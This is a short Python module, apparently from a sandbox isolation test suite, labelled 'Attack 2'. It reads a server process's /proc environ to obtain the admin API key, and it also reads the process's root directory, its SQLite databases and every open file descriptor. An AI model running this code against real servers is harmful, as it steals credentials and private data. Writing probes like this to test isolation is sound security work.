# Attack 2: read the server process through /proc: its environment (the admin API key), its root
# (the data directory), and every descriptor it holds (the SQLite files). Server pid given.


def execute(ctx):
    rep = Report(ctx)
    pid = int(ctx.input["server_pid"])
    data_dir = ctx.input["data_dir"]
    base = "/proc/%d" % pid
    rep.run("stat " + base, lambda: "exists, uid %d" % os.stat(base).st_uid)
    rep.run("read %s/environ" % base, lambda: summary(read_file(base + "/environ")))
    rep.run("read %s/cmdline" % base, lambda: summary(read_file(base + "/cmdline")))
    rep.run("list %s/root/" % base, lambda: "lists %d entries" % len(os.listdir(base + "/root/")))
    for name in ("registry.db", "executor.db"):
        path = base + "/root" + os.path.join(data_dir, name)
        rep.run("read " + path, lambda path=path: summary(read_file(path, 64 << 20)))
    rep.run("list %s/fd" % base, lambda: "lists %d descriptors" % len(os.listdir(base + "/fd")))
    try:
        fds = os.listdir(base + "/fd")
    except OSError:
        fds = []
    for fd in fds:
        path = "%s/fd/%s" % (base, fd)
        try:
            target = os.readlink(path)
        except OSError:
            continue
        if target.startswith("/"):
            rep.run("read %s (%s)" % (path, target), lambda path=path: summary(read_file(path, 64 << 20)))
    return {"attempts": rep.attempts}
